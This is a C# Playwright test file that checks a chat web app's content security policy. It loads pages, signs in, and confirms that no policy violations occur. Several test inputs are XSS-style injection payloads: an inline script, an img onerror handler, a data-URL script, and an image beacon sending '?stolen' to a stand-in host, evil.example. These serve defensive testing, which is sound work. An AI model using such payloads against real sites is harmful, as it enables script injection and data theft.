using ChatLoop.EndToEnd.Tests.Browser;
using Microsoft.Playwright;
using static Microsoft.Playwright.Assertions;

namespace ChatLoop.EndToEnd.Tests;

/// <summary>The content security policy stops scripts that others put into a page, and nothing of ours.</summary>
public sealed class SecurityPolicyTests(Chromium chromium, AccountPageTests.ServiceWithAdmin running)
    : IClassFixture<Chromium>, IClassFixture<AccountPageTests.ServiceWithAdmin>
{
    private const string Record =
        """
        window.violations = [];
        document.addEventListener("securitypolicyviolation", e => window.violations.push(`${e.violatedDirective} ${e.blockedURI} ${e.sourceFile ?? ""}`));
        """;

    [Fact]
    public async Task No_page_breaks_the_policy()
    {
        var page = await Open();
        foreach (var path in (string[])["/sign-up", "/setup#token=none", "/sign-in"])
        {
            await page.GotoAsync(new Uri(running.Service.Address, path).ToString());
            await Expect(page.GetByTestId("account-name")).ToBeVisibleAsync();
            await ExpectNone(page, path);
        }
        await page.GetByTestId("account-name").FillAsync(AccountPageTests.ServiceWithAdmin.Name);
        await page.GetByTestId("account-password").FillAsync(AccountPageTests.ServiceWithAdmin.AdminPassword);
        await page.GetByTestId("account-submit").ClickAsync();
        await Expect(page.GetByTestId("composer")).ToBeVisibleAsync();
        await page.GetByTestId("composer").FillAsync("What is the capital of France?");
        await page.GetByTestId("composer").PressAsync("Enter");
        await Expect(page.GetByTestId("message-assistant").Last).ToHaveAttributeAsync("data-status", "complete");
        await page.GetByTestId("my-feedback").ClickAsync();
        await Expect(page.GetByTestId("consent-switch")).ToBeVisibleAsync();
        await page.Keyboard.PressAsync("Escape");
        await page.GetByTestId("account-menu").ClickAsync();
        await ExpectNone(page, "the chat");
        await page.GetByTestId("menu-users").ClickAsync();
        await Expect(page.GetByTestId("user-row").First).ToBeVisibleAsync();
        await ExpectNone(page, "/users");
        foreach (var (path, shown) in ((string, string)[])[("/account", "new-key"), ("/learning", "pairs-collected")])
        {
            await page.GotoAsync(new Uri(running.Service.Address, path).ToString());
            await Expect(page.GetByTestId(shown)).ToBeVisibleAsync();
            await ExpectNone(page, path);
        }
    }

    [Theory]
    [InlineData("const s = document.createElement('script'); s.textContent = 'window.ran = true'; document.body.append(s);")]
    [InlineData("document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.ran = true\">');")]
    [InlineData("const s = document.createElement('script'); s.src = 'data:text/javascript,window.ran = true'; document.body.append(s);")]
    [InlineData("const f = document.createElement('iframe'); f.src = 'https://evil.example/'; document.body.append(f);")]
    [InlineData("const i = new Image(); i.src = 'https://evil.example/?stolen'; document.body.append(i);")]
    public async Task What_somebody_puts_into_a_page_neither_runs_nor_calls_home(string attack)
    {
        var page = await Open();
        // A call that the policy stops never gets here.
        List<string> foreign = [];
        await page.RouteAsync("https://evil.example/**", route =>
        {
            foreign.Add(route.Request.Url);
            return route.AbortAsync();
        });
        await page.GotoAsync(running.Service.Address.ToString());
        await Expect(page.GetByTestId("composer")).ToBeVisibleAsync();
        await page.EvaluateAsync($"() => {{ {attack} }}");
        await page.WaitForFunctionAsync("() => window.violations.length > 0");
        Assert.False(await page.EvaluateAsync<bool>("() => window.ran === true"));
        Assert.Empty(foreign);
    }

    [Fact]
    public async Task Page_of_another_origin_cannot_frame_ours()
    {
        var page = await Open();
        await page.RouteAsync("https://evil.example/", route => route.FulfillAsync(new()
        {
            ContentType = "text/html",
            Body = $"<iframe src=\"{running.Service.Address}sign-in\"></iframe>",
        }));
        await page.GotoAsync("https://evil.example/");
        await Expect(page.FrameLocator("iframe").GetByTestId("account-name")).ToHaveCountAsync(0);
        Assert.DoesNotContain(page.Frames, frame => frame.Url.StartsWith(running.Service.Address.ToString(), StringComparison.Ordinal));
    }

    private async Task<IPage> Open()
    {
        var context = await chromium.Browser.NewContextAsync(new() { ViewportSize = new() { Width = 1280, Height = 860 } });
        context.SetDefaultTimeout(120_000);
        SetDefaultExpectTimeout(120_000);
        await context.AddInitScriptAsync(Record);
        return await context.NewPageAsync();
    }

    private static async Task ExpectNone(IPage page, string where) =>
        Assert.Equal([], (await page.EvaluateAsync<string[]>("() => window.violations")).Select(v => $"{where}: {v}"));
}
